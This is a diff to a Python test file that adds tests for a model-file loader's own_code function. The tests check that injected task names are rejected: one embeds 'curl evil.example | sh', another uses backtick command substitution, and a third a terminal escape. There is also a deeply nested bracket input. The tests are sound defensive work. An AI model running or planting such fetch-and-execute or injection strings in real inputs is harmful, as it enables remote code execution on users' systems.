@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import numpy as np
@@ -10,7 +11,13 @@ import safetensors.numpy
 import torch
 from helpers_result import SPEC, TASK
 
-from auror.deployment.model_file import model_bytes, named_tensors, read_model, tensor_shapes
+from auror.deployment.model_file import (
+    model_bytes,
+    named_tensors,
+    own_code,
+    read_model,
+    tensor_shapes,
+)
 from auror.errors import DataError
 from auror.learn.models import build, flatten
 
@@ -51,6 +58,25 @@ def test_a_model_of_another_size_is_no_model_of_the_task() -> None:
 def test_what_is_no_task_is_one_clear_error(text: bytes) -> None:
     with pytest.raises(ValueError, match=r"task|JSON|property name"):
         tensor_shapes(text)
+
+
+@pytest.mark.parametrize(
+    ("kind", "code"),
+    [
+        ("mine.tasks:Speech", "mine.tasks:Speech"),
+        ("cnn", ""),
+        ("mine:Speech; curl evil.example | sh", ""),
+        ("mine:Speech`id`", ""),
+        ("mine:\x1b[2JSpeech", ""),
+        ([[]], ""),
+    ],
+)
+def test_a_task_names_code_and_nothing_else(kind: object, code: str) -> None:
+    assert own_code(json.dumps({"model": {"kind": kind}}).encode()) == code
+
+
+def test_a_task_of_many_brackets_names_none() -> None:
+    assert own_code(b"[" * 60_000) == ""
 
 
 def test_a_file_that_is_no_model_is_one_clear_error(tmp_path: Path) -> None:
